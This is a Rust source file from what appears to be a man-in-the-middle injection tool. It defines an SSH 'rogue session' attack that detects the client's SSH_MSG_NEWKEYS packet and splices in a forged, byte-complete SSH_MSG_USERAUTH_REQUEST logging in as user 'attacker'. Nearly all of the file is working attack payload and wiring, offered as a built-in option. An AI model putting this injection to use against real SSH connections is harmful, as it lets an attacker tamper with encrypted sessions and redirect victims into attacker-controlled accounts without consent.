//! Built-in marker and payload pairs.
//!
//! The SSH rogue session pair targets servers which process a
//! `SSH_MSG_USERAUTH_REQUEST` sent right after the client's
//! `SSH_MSG_NEWKEYS`. At that point the client has not yet switched its
//! outgoing stream to the new keys, so a cleartext message inserted by the
//! relay is accepted by the server as the first message under the new keys.
//! The request authenticates as the user `attacker` with the password
//! `attacker`, which must exist on the target.

use super::Injection;
use bytes::Bytes;

/// The client's `SSH_MSG_NEWKEYS` binary packet: packet length 12, padding
/// length 10, message number 21. Only the header is matched, the padding
/// bytes are random.
pub const SSH_NEWKEYS_MARKER: &[u8] = b"\x00\x00\x00\x0c\x0a\x15";

/// A complete `SSH_MSG_USERAUTH_REQUEST` binary packet for the `password`
/// method, user `attacker`, password `attacker`, service `ssh-connection`.
pub const ROGUE_USERAUTH_REQUEST: &[u8] = b"\x00\x00\x00\x44\x0b\x32\
\x00\x00\x00\x08attacker\
\x00\x00\x00\x0essh-connection\
\x00\x00\x00\x08password\
\x00\
\x00\x00\x00\x08attacker\
\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00";

/// The SSH rogue session injection: `ROGUE_USERAUTH_REQUEST` spliced in
/// front of the chunk carrying `SSH_NEWKEYS_MARKER`.
pub fn rogue_session() -> Injection {
    Injection::from_parts(
        Bytes::from_static(SSH_NEWKEYS_MARKER),
        Bytes::from_static(ROGUE_USERAUTH_REQUEST),
    )
}
